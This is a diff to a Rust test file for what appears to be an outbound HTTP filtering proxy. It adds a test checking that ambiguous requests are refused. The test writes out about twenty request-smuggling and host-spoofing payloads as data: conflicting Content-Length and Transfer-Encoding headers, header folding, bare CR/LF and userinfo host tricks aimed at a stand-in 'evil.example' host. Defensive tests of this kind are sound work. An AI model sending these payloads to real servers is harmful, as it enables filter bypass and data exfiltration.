@@ -13,6 +13,7 @@ tests![
     a_hello_in_pieces_is_judged_whole,
     a_hello_that_hides_its_server_is_refused,
     a_request_for_another_host_does_not_reach_the_peer,
+    requests_that_could_be_read_in_two_ways_do_not_reach_the_peer,
     what_is_neither_tls_nor_http_needs_a_rule_of_its_own,
     a_client_that_says_half_of_it_is_cut_off,
     networks_take_any_speech,
@@ -114,6 +115,47 @@ say(tell(good, good))";
     let heard = rig.heard(8443);
     assert!(heard.iter().all(|heard| !heard.contains("stolen") && !heard.contains("evil") && !heard.contains("PRI")), "{heard:?}");
     assert_eq!(heard.last().unwrap().matches("GET").count(), 2);
+}
+
+fn requests_that_could_be_read_in_two_ways_do_not_reach_the_peer() {
+    let mut rig = rig();
+    let script = r"line, host, end = b'POST /stolen HTTP/1.1\r\n', b'Host: api.internal:8443\r\n', b'\r\n'
+other = b'GET /stolen HTTP/1.1\r\nHost: evil.example\r\n\r\n'
+for head, body in (
+    (line + host + b'Content-Length: 0\r\nContent-Length: 9\r\n' + end, b''),
+    (line + host + b'Content-Length: 0, 9\r\n' + end, b''),
+    (line + host + b'Content-Length: +4\r\n' + end, b'body'),
+    (line + host + b'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n' + end, b'0\r\n\r\n' + other),
+    (line + host + b'Transfer-Encoding: chunked, identity\r\n' + end, b'0\r\n\r\n' + other),
+    (line + host + b'Transfer-Encoding: \x0bchunked\r\n' + end, b'0\r\n\r\n' + other),
+    (line + host + b'Transfer_Encoding: chunked\r\n' + end, b'0\r\n\r\n' + other),
+    (line + host + b'X: y\r\n Host: evil.example\r\n' + end, b''),
+    (line + host + b'Host : evil.example\r\n' + end, b''),
+    (line + host + b'host: evil.example\r\n' + end, b''),
+    (line + b'Host: api.internal, evil.example\r\n' + end, b''),
+    (line + b'Host: api.internal:8443@evil.example\r\n' + end, b''),
+    (line + b'X: y\nHost: evil.example\r\n' + host + end, b''),
+    (line + b'X: y\rHost: evil.example\r\n' + host + end, b''),
+    (b'POST http://api.internal:8443@evil.example/stolen HTTP/1.1\r\n' + host + end, b''),
+    (b'POST https://evil.example/stolen HTTP/1.1\r\n' + host + end, b''),
+    (b'GET /stolen\r\n' + end, b''),
+    (b'\r\n' + line + host + end, b''),
+    (line + host + b'Connection: Upgrade\r\nUpgrade: websocket\r\n' + end, b''),
+): say(tell(head + body))
+stolen = b'0\r\nHost: evil.example\r\nX: stolen\r\n\r\n'
+say(tell(line.replace(b'stolen', b'') + host + b'Transfer-Encoding: chunked\r\n' + end, stolen))
+say(tell(line + host + b'Transfer-Encoding: chunked\r\n' + end + b'4\r\nbody\r\n0\r\n\r\n'))";
+    let ran = told(&mut rig, script);
+    assert_eq!(ran.output, format!("{}hang\n", "ECONNRESET\n".repeat(20)), "{ran:?}");
+    let heard = rig.heard(8443);
+    // The last is the control.
+    let (good, bad) = heard.split_last().unwrap();
+    assert!(bad.iter().all(|heard| !heard.contains("stolen") && !heard.contains("evil")), "{bad:?}");
+    assert!(good.contains("POST /stolen") && good.contains("body"), "{good:?}");
+    assert!(
+        denials(&ran).iter().all(|denied| denied.starts_with("http api.internal 10.0.5.7 8443 ") || denied.starts_with("connect ")),
+        "{ran:?}"
+    );
 }
 
 fn what_is_neither_tls_nor_http_needs_a_rule_of_its_own() {
